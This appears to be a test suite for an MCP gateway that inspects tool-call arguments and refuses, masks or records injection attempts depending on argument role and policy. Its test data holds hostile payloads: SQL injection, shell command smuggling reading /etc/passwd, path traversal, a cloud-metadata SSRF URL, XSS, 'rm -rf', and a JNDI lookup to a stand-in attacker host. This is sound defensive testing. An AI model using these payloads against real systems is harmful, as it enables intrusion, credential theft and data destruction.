/** IN-2, IN-3, IN-5: what arguments hold, by role and by verdict, through the running gateway over HTTP. */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { ask as request, callTool, openSession, send, type Reply } from '../fixtures/client.ts'
import { recordsOf, recordsOfIncident } from '../fixtures/audit.ts'
import { type CountedTool, type CountingUpstream, respond, startCounting } from '../fixtures/counting-upstream.ts'
import type { RecordedFinding } from '../../src/audit/record.ts'
import { startTestGateway, type TestGateway } from '../fixtures/gateway.ts'

const text = { type: 'string' }

/** One argument of each role, by names that say it. */
const properties = {
  order_id: text,
  note: text,
  file_path: text,
  page_url: text,
  hostname: text,
  sql: text,
  shell_command: text,
  html_body: text,
  source_code: text,
  amount: text,
  formula: text,
  password: text,
  rows: { type: 'array', items: { type: 'object', properties: { row_id: text } } },
}

const TOOLS: readonly CountedTool[] = [
  { name: 'all', inputSchema: { type: 'object', properties } },
  { name: 'watched', inputSchema: { type: 'object', properties } },
  { name: 'masked', inputSchema: { type: 'object', properties } },
  { name: 'lenient', inputSchema: { type: 'object', properties } },
  { name: 'ruled', inputSchema: { type: 'object', properties } },
  { name: 'shapeless', inputSchema: {} },
  { name: 'free', inputSchema: { type: 'object', additionalProperties: true } },
]

const RULES = {
  query: { sql: { dialect: 'sqlite', tables: ['orders'], maxLimit: 100 } },
}

const inspection = {
  tools: {
    watched: { mode: 'shadow' },
    masked: {
      on: { characters: { strong: 'mask' } },
      roles: { identifier: { strong: 'mask' } },
      arguments: { order_id: { role: 'text' }, '/rows/*/row_id': { role: 'identifier' } },
    },
    lenient: { roles: { identifier: { strong: 'allow' } } },
    ruled: {
      arguments: {
        sql: RULES.query,
        shell_command: { shell: { programs: { ls: { allowedFlags: ['-l'], operands: 'paths' } }, roots: ['/srv'] } },
        note: { role: 'identifier' },
      },
    },
  },
}

let upstream: CountingUpstream
let gateway: TestGateway

before(async () => {
  upstream = await startCounting(TOOLS)
  gateway = await startTestGateway({ upstreams: [{ name: 'shop', url: upstream.url, inspection }] })
})
after(async () => {
  await gateway.close()
  await upstream.close()
})

const incidentOf = ({ json }: Reply): string => json.result._meta['dev.portcullis/incident']

/** Asserts that nothing reached the upstream, that the caller learns only which argument, and that the record tells all. */
async function assertRefused(tool: string, args: Readonly<Record<string, unknown>>, at: string, reason: RegExp) {
  const earlier = upstream.count()
  const reply = await callTool(gateway, tool, args)
  assert.equal(reply.status, 200, reply.text)
  assert.equal(reply.json.result?.isError, true, reply.text)
  assert.equal(reply.json.result._meta['dev.portcullis/code'], 'inspection.refused')
  assert.equal(upstream.count(), earlier)
  const refusal = recordsOfIncident(gateway, incidentOf(reply)).find(({ kind }) => kind === 'refusal')
  assert.ok(refusal?.kind === 'refusal' && refusal.findings !== undefined)
  const [finding] = refusal.findings as readonly [Finding]
  assert.equal(finding.at, at)
  assert.match(finding.reason, reason)
  assert.equal(finding.verdict, 'refuse')
  for (const { evidence } of refusal.findings) {
    if (evidence.length > 3) assert.ok(!reply.text.includes(JSON.stringify(evidence).slice(1, -1)), reply.text)
  }
  return reply.json.result.content[0].text as string
}

type Finding = RecordedFinding

/** Asserts that a call passes unchanged, and returns what its record says. */
async function findingsOfPassed(tool: string, args: Readonly<Record<string, unknown>>) {
  const reply = await callTool(gateway, tool, args)
  assert.equal(reply.json.result?.isError, undefined, reply.text)
  assert.deepEqual(upstream.seen.at(-1)?.message.params.arguments, args)
  return findingsOfLastCall()
}

function findingsOfLastCall(): readonly Finding[] {
  const calls = recordsOf(gateway).filter((record) => record.kind === 'call' && record.method === 'tools/call')
  return (calls.at(-1) as { readonly findings?: readonly Finding[] }).findings ?? []
}

describe('in a value of a narrow form an attack is refused', () => {
  const REFUSED: readonly (readonly [argument: string, value: string, reason: RegExp])[] = [
    ['order_id', "1' UNION SELECT password FROM users--", /^sql\./],
    ['order_id', '17; cat /etc/passwd', /^command\./],
    ['order_id', 'concat_ws(', /^characters\.unpaired/],
    ['order_id', 'name%27,%20(', /^characters\.unpaired/],
    ['order_id', '1%27%20UNION%20SELECT%20password%20FROM%20users--', /^sql\./],
    ['file_path', '../../../../etc/passwd', /^path\./],
    ['file_path', '/srv/a$(id)', /^(?:command|path)\./],
    ['page_url', 'http://169.254.169.254/latest/meta-data/', /^url\./],
    ['page_url', 'javascript:alert(document.domain)', /^(?:url|markup)\./],
    ['hostname', 'example.com; id', /^(?:url|command)\./],
    ['sql', 'DROP TABLE users', /^sql\./],
    ['sql', 'SELECT 1; SELECT 2', /^sql\.several-statements/],
    ['sql', 'SELEC 1', /^sql\.unparsable/],
    ['shell_command', 'rm -rf /srv', /^(?:shell|command)\./],
    ['amount', '1 OR 1=1 UNION SELECT NULL,NULL--', /^sql\./],
    ['formula', '${jndi:ldap://evil.example/a}', /^expression\./],
    ['password', "x' OR '1'='1' --", /^sql\./],
  ]
  for (const [argument, value, reason] of REFUSED) {
    test(`${argument}: ${value}`, async () => {
      const says = await assertRefused('all', { [argument]: value }, `/${argument}`, reason)
      assert.match(says, new RegExp(`^The argument "${argument}" `))
    })
  }

  test('in a member of a member, named by its pointer', async () => {
    const rows = [{ row_id: 'a1' }, { row_id: '2; cat /etc/passwd' }]
    const says = await assertRefused('all', { rows }, '/rows/1/row_id', /^command\./)
    assert.match(says, /^The argument "\/rows\/1\/row_id" looks like an injection and was refused\./)
  })

  test('the password itself is in no record', async () => {
    await callTool(gateway, 'all', { password: "hunter2' OR '1'='1' --" })
    assert.ok(!JSON.stringify(recordsOf(gateway)).includes('hunter2'))
  })

  test('at the end of a long value, and in the last of many', async () => {
    const order_id = `${'lorem ipsum '.repeat(8_000)}; cat /etc/passwd`
    await assertRefused('all', { order_id }, '/order_id', /^command\./)
    const rows = [
      ...Array.from({ length: 3_000 }, (_, i) => ({ row_id: `row-${i}` })),
      { row_id: '1; cat /etc/passwd' },
    ]
    await assertRefused('all', { rows }, '/rows/3000/row_id', /^command\./)
  })

  test('by a legacy client too', async () => {
    const headers = await openSession(gateway)
    const earlier = upstream.count()
    const params = { name: 'all', arguments: { order_id: '17; cat /etc/passwd' } }
    const { json } = await send(gateway, { jsonrpc: '2.0', id: 1, method: 'tools/call', params }, { headers })
    assert.equal(json.result.isError, true)
    assert.match(json.result.content[0].text, /^The argument "order_id" looks like an injection/)
    assert.equal(upstream.count(), earlier)
  })

  test('on the aggregate path too', async () => {
    const earlier = upstream.count()
    const { json } = await callTool(
      gateway,
      'shop__all',
      { order_id: '17; cat /etc/passwd' },
      { url: `${gateway.origin}/mcp` },
    )
    assert.equal(json.result.isError, true)
    assert.equal(upstream.count(), earlier)
  })
})

describe('honest values pass, and nothing is recorded of them', () => {
  const HONEST = {
    order_id: 'ORD-2026/0017',
    note: "Don't forget: 50% off & free shipping; see O'Brien's mail.",
    file_path: 'reports/2026/summary.md',
    page_url: 'https://example.com/a?b=c#d',
    hostname: 'api.example.com',
    sql: 'SELECT id, total FROM orders WHERE total > 10 LIMIT 5',
    html_body: '<p>Hello</p>',
    source_code: 'for (const a of b) { if (a && c) rm(a | 1); }',
    amount: '12.50',
    formula: '(1 + x) * 2 / 3',
    password: 'correct-Horse7!battery',
    rows: [{ row_id: 'a1' }],
  }
  for (const [argument, value] of Object.entries(HONEST)) {
    test(`${argument}: ${JSON.stringify(value)}`, async () => {
      assert.deepEqual(await findingsOfPassed('all', { [argument]: value }), [])
    })
  }
})

describe('where people write freely an attack passes and is on record', () => {
  const NOTED: readonly (readonly [argument: string, value: string, reason: RegExp])[] = [
    ['note', 'Run 17; cat /etc/passwd', /^command\./],
    ['html_body', '<p>x</p><script>alert(1)</script>', /^markup\./],
    ['source_code', 'a = "\u202e" + b', /^characters\./],
  ]
  for (const [argument, value, reason] of NOTED) {
    test(argument, async () => {
      const [finding] = await findingsOfPassed('all', { [argument]: value })
      assert.equal(finding?.at, `/${argument}`)
      assert.match(finding?.reason ?? '', reason)
      assert.equal(finding?.verdict, 'annotate')
      assert.equal(finding?.shadow, undefined)
    })
  }

  test('names that callers choose are looked at like text', async () => {
    const [finding] = await findingsOfPassed('free', { 'x; cat /etc/passwd': 1 })
    assert.equal(finding?.at, '/x; cat ~1etc~1passwd')
  })
})

describe('each verdict does what it says', () => {
  test('shadow: everything passes, and the record says what would have happened', async () => {
    const [finding] = await findingsOfPassed('watched', { order_id: '17; cat /etc/passwd', sql: 'DROP TABLE users' })
    assert.equal(finding?.verdict, 'refuse')
    assert.equal(finding?.shadow, true)
  })

  test('allow: it passes and no record says so', async () => {
    assert.deepEqual(await findingsOfPassed('lenient', { order_id: '17; cat /etc/passwd' }), [])
  })

  test('mask: the value goes on without what nobody sees', async () => {
    const reply = await callTool(gateway, 'masked', { order_id: 'ab\u{e0041}\u{e0042}c', note: 'plain' })
    assert.equal(reply.json.result?.isError, undefined, reply.text)
    assert.deepEqual(upstream.seen.at(-1)?.message.params.arguments, { order_id: 'abc', note: 'plain' })
    const [finding] = findingsOfLastCall()
    assert.equal(finding?.verdict, 'mask')
  })

  test('mask: what is more than unseen goes as a whole', async () => {
    await callTool(gateway, 'masked', { rows: [{ row_id: '17; cat /etc/passwd' }, { row_id: 'ok' }] })
    const sent = upstream.seen.at(-1)?.message.params.arguments
    assert.deepEqual(sent, { rows: [{ row_id: '[masked]' }, { row_id: 'ok' }] })
  })

  test('mask: what the policy forbids does not come into being by it', async () => {
    const own = await startTestGateway({
      upstreams: [{ name: 'shop', url: upstream.url, inspection: { on: { characters: { strong: 'mask' } } } }],
      policy: `@id("all") permit (principal, action, resource);
        @id("not-this") forbid (principal, action == Action::"tools/call", resource == Tool::"shop/all")
        when { context.args has note && context.args.note == "forbidden" };`,
    })
    try {
      const earlier = upstream.count()
      for (const note of ['forbidden', 'for\u{e0041}bidden']) {
        const { json, text: said } = await callTool(own, 'all', { note })
        assert.equal(json.error?.data.code, 'policy.denied', said)
      }
      assert.equal(upstream.count(), earlier)
      await callTool(own, 'all', { note: 'al\u{e0041}lowed' })
      assert.deepEqual(upstream.seen.at(-1)?.message.params.arguments, { note: 'allowed' })
    } finally {
      await own.close()
    }
  })

  test('refuse wins over mask', async () => {
    await assertRefused('masked', { order_id: 'ab\u{e0041}\u{e0042}c', sql: 'DROP TABLE users' }, '/sql', /^sql\./)
  })
})

describe('rules of a tool', () => {
  test('its statement may read what is named', async () => {
    assert.deepEqual(await findingsOfPassed('ruled', { sql: 'SELECT id FROM orders LIMIT 10' }), [])
  })
  for (const sql of [
    'SELECT id FROM orders',
    'SELECT id FROM users LIMIT 1',
    'DELETE FROM orders',
    'PRAGMA table_list',
  ]) {
    test(`and not: ${sql}`, async () => {
      await assertRefused('ruled', { sql }, '/sql', /^sql\./)
    })
  }
  test('its command may run what is named', async () => {
    assert.deepEqual(await findingsOfPassed('ruled', { shell_command: 'ls -l /srv/a' }), [])
  })
  for (const shell_command of [
    'ls -R /srv',
    'ls /etc',
    'ls -l /srv; id',
    'cat /srv/a',
    'ls $(id)',
    'ls /srv > /srv/x',
  ]) {
    test(`and not: ${shell_command}`, async () => {
      await assertRefused('ruled', { shell_command }, '/shell_command', /^(?:shell|command)\./)
    })
  }
  test('a role that is configured stands instead of the proposed one', async () => {
    await assertRefused('ruled', { note: '17; cat /etc/passwd' }, '/note', /^command\./)
  })
})

describe('a name that the configuration has wrong', () => {
  const start = (tools: object) =>
    startTestGateway({ upstreams: [{ name: 'shop', url: upstream.url, inspection: { tools } }] })

  const WRONG: readonly (readonly [tools: object, says: RegExp])[] = [
    [{ al: {} }, /^upstreams\.shop\.inspection\.tools\.al: the upstream has no such tool; it has all, watched/],
    [
      { all: { arguments: { order: { role: 'text' } } } },
      /tools\.all\.arguments\.order: the tool has no such argument/,
    ],
    [
      { all: { arguments: { '/rows/*/id': { role: 'text' } } } },
      /arguments\.\/rows\/\*\/id: the tool has no such argument/,
    ],
  ]
  for (const [tools, says] of WRONG) {
    test(`stops the start: ${JSON.stringify(tools)}`, async () => {
      await assert.rejects(start(tools), (thrown: Error) => {
        assert.equal(thrown.name, 'InspectionError')
        assert.match(thrown.message, says)
        return true
      })
    })
  }

  test('is refused from the moment at which a tool changes, and nothing else is', async () => {
    const own = await startCounting(TOOLS.slice(0, 2))
    const guarded = await startTestGateway({
      upstreams: [
        { name: 'shop', url: own.url, inspection: { tools: { all: { arguments: { note: { role: 'identifier' } } } } } },
      ],
    })
    try {
      const ask = (tool: string) => callTool(guarded, tool, {})
      assert.equal((await ask('all')).json.result.isError, undefined)
      const changed = [
        { name: 'all', inputSchema: { type: 'object', properties: { remark: text } } },
        { name: 'watched', inputSchema: { type: 'object' } },
      ]
      own.misbehave((seen, response) => {
        if (seen.message?.method !== 'tools/list') return false
        const result = { resultType: 'complete', ttlMs: 0, cacheScope: 'private', tools: changed }
        respond(response, { jsonrpc: '2.0', id: seen.message.id, result })
        return true
      })
      // A name that is not known makes the gateway ask again.
      while ((await ask('all')).json.result.isError !== true) await ask('not_known')
      const earlier = own.count()
      const refused = await ask('all')
      assert.equal(refused.json.result._meta['dev.portcullis/code'], 'arguments.unavailable')
      assert.equal(own.count(), earlier)
      assert.equal((await ask('watched')).json.result.isError, undefined)
      assert.match(guarded.logged.join(''), /does not fit the tools/)
    } finally {
      await guarded.close()
      await own.close()
    }
  })
})

describe('what is no argument of a tool', () => {
  const attack = '17; cat /etc/passwd'
  let strict: TestGateway
  before(async () => {
    const text_ = { roles: { text: { strong: 'refuse' } } }
    strict = await startTestGateway({ upstreams: [{ name: 'shop', url: upstream.url, inspection: text_ }] })
  })
  after(() => strict.close())

  const ref = { type: 'ref/prompt', name: 'open' }
  const REFUSED: readonly (readonly [method: string, params: Readonly<Record<string, unknown>>])[] = [
    ['prompts/get', { name: 'open', arguments: { a: attack } }],
    ['resources/read', { uri: `test://${attack}` }],
    ['completion/complete', { ref, argument: { name: 'a', value: attack } }],
    ['completion/complete', { ref, argument: { name: 'a', value: 'b' }, context: { arguments: { c: attack } } }],
  ]
  for (const [method, params] of REFUSED)
    test(`is looked at too: ${method} ${JSON.stringify(params)}`, async () => {
      const earlier = upstream.count(method)
      const { json, text: said } = await request(strict, method, params)
      assert.equal(json.error?.data?.code, 'inspection.refused', said)
      assert.equal(upstream.count(method), earlier)
    })

  for (const [method, name] of [
    ['prompts/get', 'open'],
    ['tools/call', 'shapeless'],
  ] as const)
    for (const args of [[attack], attack])
      test(`${method} with ${JSON.stringify(args)} for arguments is refused`, async () => {
        const earlier = upstream.count(method)
        const { json, text: said } = await request(strict, method, { name, arguments: args })
        assert.equal(json.error?.data?.code, 'message.invalid_params', said)
        assert.equal(upstream.count(method), earlier)
      })
})
